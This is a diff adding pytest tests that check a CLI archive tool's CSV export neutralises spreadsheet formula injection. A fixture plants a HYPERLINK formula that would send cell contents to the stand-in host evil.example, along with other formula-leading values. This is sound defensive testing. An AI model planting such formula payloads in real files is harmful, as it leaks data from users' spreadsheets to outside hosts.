@@ -3,6 +3,8 @@ run, and -o writes to its target (a file, a link, a pipe, a device) rather than 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 
@@ -116,3 +118,40 @@ def test_every_format_cleans_what_it_is_given():
     for fmt in FORMATS:
         out = "".join(export([record], fmt))
         assert not RAW_CONTROLS.search(without_row_ends(out)), (fmt, out)
+
+
+FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&A1, "Read more")', "outlet": "@SUM(A1:A9)",
+            "author": "+1 Caller", "date_text": "-2+3"}
+
+
+@pytest.fixture
+def formulas(cli_run, archive_dir):
+    from conftest import MOSUL
+
+    cli_run("add", "-q", str(MOSUL))
+    article = json.loads(cli_run("list", "--json").output)[0]["id"]
+    cli_run("edit", article, "--title", FORMULAS["title"], "--outlet", FORMULAS["outlet"],
+            "--author", FORMULAS["author"], "--reason", "a page from the web said so")
+    plant(archive_dir, article, date_text=FORMULAS["date_text"], section="\tTabbed", subtitle="\rReturn")
+    cli_run("reindex")
+    return cli_run
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(formulas):
+    rows = list(csv.DictReader(io.StringIO(formulas("export", "--format", "csv").output)))
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    row = next(r for r in rows if "HYPERLINK" in r["title"])
+    assert row["title"] == "'" + FORMULAS["title"] and row["outlet"] == "'" + FORMULAS["outlet"]
+    assert row["author"] == "'" + FORMULAS["author"] and row["date_text"] == "'" + FORMULAS["date_text"]
+    assert row["section"] == "'\tTabbed"
+    # For programs that want the values as stored:
+    raw = list(csv.DictReader(io.StringIO(formulas("export", "--format", "csv", "--raw-csv").output)))
+    row = next(r for r in raw if "HYPERLINK" in r["title"])
+    assert (row["title"], row["outlet"], row["author"]) == (FORMULAS["title"], FORMULAS["outlet"],
+                                                            FORMULAS["author"])
+
+
+def test_only_csv_is_neutralised(formulas):
+    out = formulas("export", "--format", "jsonl").output
+    assert json.dumps(FORMULAS["title"])[1:-1] in out
